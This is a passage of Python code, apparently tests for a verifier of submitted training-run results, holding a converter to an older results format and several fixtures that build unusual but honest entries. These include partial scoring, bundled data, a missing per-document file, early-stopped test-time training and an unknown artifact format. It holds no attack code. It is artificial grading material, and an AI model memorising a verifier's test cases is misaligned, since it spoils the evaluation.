    results["seeds"] = {seed: as_first_version(run) for seed, run in results["seeds"].items()}
    path.write_text(json.dumps(results))


def as_first_version(run: dict[str, Any]) -> dict[str, Any]:
    """The results of a run as version 1 had them: rates instead of sums."""
    packing, scores = run.pop("packing"), run.pop("scores")
    stages = {}
    for stage in scores["stages"]:
        tally = stage.pop("tally")
        sums = {"tokens_scored": tally["num_tokens"], "bytes_scored": tally["num_bytes"]}
        stages[stage.pop("name")] = stage | sums | {"val_loss": tally["nats"] / tally["num_tokens"]}
    sizes = {name: packing[f"{name}_bytes"] for name in ("code", "artifact", "limit")}
    del run["version"]
    return {
        **run,
        **run.pop("training"),
        "stages": stages,
        "bytes": sizes,
        "code_sha256": packing["code_sha256"],
        "artifact_sha256": packing["artifact_sha256"],
        "scored_artifact_sha256": scores["artifact_sha256"],
        "score_compute_dtype": scores["compute_dtype"],
        "load_seconds": scores["load_seconds"],
        "seconds": run["seconds"],
    }


@honest
def is_scored_on_a_part_and_says_so(entry: Path, place: Surroundings) -> None:
    """Its figures are those of the first 400 tokens, as they say."""
    restate_on(entry, place, place.data, max_tokens=400)


@honest
def brings_its_text_along(entry: Path, place: Surroundings) -> None:
    """The text that it was scored on lies in its folder, and is the verifier's."""
    shutil.copytree(place.data, entry / "data")


@honest
def has_no_sums_by_document(entry: Path, place: Surroundings) -> None:
    """It has no per_document.npz."""
    (entry / "per_document.npz").unlink()


@honest
def ended_its_adapting_in_time(entry: Path, place: Surroundings) -> None:
    """A time limit ended its test-time training early: the score lies between those without and with it."""
    run = read_entry_results(entry / "results.json")[SEED]
    state_nats(entry, {"test_time_trained": 0.5 * (run.quantized.tally.nats + run.final.tally.nats)})
    agree(entry, scores__stages__test_time_trained__notes={"adaptation_stopped_after_tokens": 384})


@honest
def is_of_a_fork_with_another_artifact(entry: Path, place: Surroundings) -> None:
    """Its artifact is of a container that this project does not know: reported by the entry, not verified."""
    artifact_of(entry).write_bytes(b"FORK" + bytes(range(256)) * 40)
    replay(entry)
